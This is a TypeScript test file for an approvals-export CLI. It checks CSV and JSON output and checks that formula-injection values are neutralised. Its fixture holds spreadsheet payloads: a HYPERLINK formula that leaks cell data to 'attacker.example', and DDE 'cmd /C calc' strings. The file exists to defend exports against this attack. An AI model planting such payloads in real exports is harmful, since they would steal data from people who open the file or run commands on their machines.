import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { parse } from "csv-parse/sync";
import { openTestStore } from "../../fakes/test-config";
import { startEmbeddedCosmos, type EmbeddedCosmos } from "../../../src/storage/embedded-server";
import { approvalRecord, decisionAudit } from "../../fixtures/approval-records";

/** `npm run approvals -- …` against the given Cosmos. */
function approvalsCli(cosmos: EmbeddedCosmos, ...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return promisify(execFile)(process.execPath, ["--import", "tsx", "src/cli/approvals.ts", ...args], {
    env: { PATH: process.env.PATH, COSMOS_ENDPOINT: cosmos.endpoint, COSMOS_KEY: cosmos.key, COSMOS_DATABASE: "approvals-export" },
  }).then(
    ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    (error: unknown) => error as { code: number; stdout: string; stderr: string },
  );
}

/** A question, a requester's name and a rejection reason as an attacker writes them. */
const FORMULAS = {
  question: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  requesterName: "@SUM(1+1)*cmd|' /C calc'!A0",
  reason: "-2+3+cmd|' /C calc'!A0",
};

describe("npm run approvals -- export", function () {
  this.timeout(60_000);
  let cosmos: EmbeddedCosmos;

  before(async () => {
    cosmos = await startEmbeddedCosmos();
    const store = await openTestStore(cosmos, "approvals-export");
    const edited = approvalRecord({
      id: "appr-edited",
      createdAt: "2026-04-01T09:00:00.000Z",
      status: "approved",
      decision: {
        byAadObjectId: "aad-kenji",
        byName: "Kenji Sato",
        at: "2026-04-01T09:45:00.000Z",
        kind: "edit",
        comment: "cap, not 8%",
        before: "Renewal at +8% exceeds the 5% cap.",
        after: 'Renew at +5%, the contract\'s cap; "+8%" needs a new negotiation.',
      },
      outcomeShownAt: "2026-04-01T09:45:02.000Z",
      approverThread: { conversationId: "19:approvers@thread.tacv2;messageid=111", activityId: "111", serviceUrl: "https://smba.example/" },
      audit: [
        decisionAudit("2026-04-01T09:30:00.000Z", "aad-aiko", "approve", "refused: the requester may not decide"),
        decisionAudit("2026-04-01T09:45:00.000Z", "aad-kenji", "edit"),
      ],
    });
    const rejected = approvalRecord({
      id: "appr-rejected",
      createdAt: "2026-05-02T10:00:00.000Z",
      status: "rejected",
      question: "取引先A社と5000万円の契約を結べますか？",
      language: "ja",
      decision: {
        byAadObjectId: "aad-maria",
        byName: "Maria Ito",
        at: "2026-05-02T12:00:00.000Z",
        kind: "reject",
        comment: "予算超過",
        before: "…",
        after: "…",
      },
      audit: [decisionAudit("2026-05-02T12:00:00.000Z", "aad-maria", "reject", "予算超過")],
    });
    const pending = approvalRecord({ id: "appr-pending", createdAt: "2026-05-03T08:00:00.000Z" });
    // What an attacker writes where the export repeats it: formulas a spreadsheet would run.
    const formulas = approvalRecord({
      id: "appr-formulas",
      createdAt: "2026-05-04T08:00:00.000Z",
      status: "rejected",
      question: FORMULAS.question,
      requesterName: FORMULAS.requesterName,
      decision: {
        byAadObjectId: "aad-maria",
        byName: "\tMaria",
        at: "2026-05-04T09:00:00.000Z",
        kind: "reject",
        comment: FORMULAS.reason,
        before: "+1+1",
        after: "\r=1+1",
      },
    });
    for (const approval of [rejected, pending, edited, formulas]) assert.equal((await store.approvals.create(approval)).kind, "written");
    await store.close();
  });

  after(() => cosmos?.stop());

  it("writes every approval as CSV, one row per audit entry with the decision, approver, time to decision and edit", async () => {
    const { code, stdout, stderr } = await approvalsCli(cosmos, "export");
    assert.equal(code, 0, stderr);
    assert.ok(stdout.startsWith("\uFEFF"), "a byte-order mark, so spreadsheets read the Japanese text as UTF-8");
    const rows = parse<Record<string, string>>(stdout, { bom: true, columns: true });
    assert.deepEqual(
      rows.map((row) => [
        row.approvalId,
        row.decision,
        row.approverName,
        row.timeToDecisionMinutes,
        row.edited,
        row.auditAction,
        row.auditActorAadObjectId,
      ]),
      [
        ["appr-edited", "edit", "Kenji Sato", "45", "yes", "approve", "aad-aiko"],
        ["appr-edited", "edit", "Kenji Sato", "45", "yes", "edit", "aad-kenji"],
        ["appr-rejected", "reject", "Maria Ito", "120", "no", "reject", "aad-maria"],
        ["appr-pending", "", "", "", "no", "", ""],
        ["appr-formulas", "reject", "'\tMaria", "60", "no", "", ""],
      ],
    );
    assert.equal(rows[0].auditDetail, "refused: the requester may not decide");
    assert.equal(rows[1].answerAfter, 'Renew at +5%, the contract\'s cap; "+8%" needs a new negotiation.', "quotes and separators survive");
    assert.equal(rows[2].question, "取引先A社と5000万円の契約を結べますか？");
    assert.equal(rows[0].approverThreadActivityId, "111");
    assert.match(stderr, /exported 4 approvals \(csv\)/);
  });

  it("writes no cell a spreadsheet would run: a text starting with = + - @ tab or CR gets a leading quote (OWASP)", async () => {
    const { code, stdout } = await approvalsCli(cosmos, "export", "--since", "2026-05-04");
    assert.equal(code, 0);
    const [row] = parse<Record<string, string>>(stdout, { bom: true, columns: true });
    assert.deepEqual(
      [row.question, row.requesterName, row.comment, row.approverName, row.answerBefore, row.answerAfter],
      [`'${FORMULAS.question}`, `'${FORMULAS.requesterName}`, `'${FORMULAS.reason}`, "'\tMaria", "'+1+1", "'\r=1+1"],
    );
    const rows: string[][] = parse(stdout, { bom: true, from_line: 2 });
    assert.ok(
      rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell)),
      "no cell starts a formula",
    );
    assert.ok(stdout.split("\r\n")[1].startsWith('"'), "every field is quoted");
    const json = await approvalsCli(cosmos, "export", "--since", "2026-05-04", "--format", "json");
    const [entry] = JSON.parse(json.stdout) as { question: string; requesterName: string; comment: string }[];
    assert.deepEqual(
      [entry.question, entry.requesterName, entry.comment],
      [FORMULAS.question, FORMULAS.requesterName, FORMULAS.reason],
      "JSON as stored",
    );
  });

  it("--since keeps approvals created from that date; --format json keeps each approval with all its audit entries", async () => {
    const { code, stdout } = await approvalsCli(cosmos, "export", "--since", "2026-05-01", "--format", "json");
    assert.equal(code, 0);
    const entries = JSON.parse(stdout) as { approvalId: string; timeToDecisionMs: number | null; audit: unknown[] }[];
    assert.deepEqual(
      entries.map((entry) => [entry.approvalId, entry.timeToDecisionMs, entry.audit.length]),
      [
        ["appr-rejected", 7_200_000, 1],
        ["appr-pending", null, 0],
        ["appr-formulas", 3_600_000, 0],
      ],
    );
  });

  it("bad input gets a clear message and exit code 2, and nothing is written", async () => {
    const format = await approvalsCli(cosmos, "export", "--format", "xlsx");
    assert.deepEqual([format.code, format.stdout], [2, ""]);
    assert.match(format.stderr, /--format must be csv or json, got xlsx/);
    const since = await approvalsCli(cosmos, "export", "--since", "last tuesday");
    assert.deepEqual([since.code, since.stdout], [2, ""]);
    assert.match(since.stderr, /--since must be a date \(2026-04-01\) or an ISO date-time, got last tuesday/);
  });
});
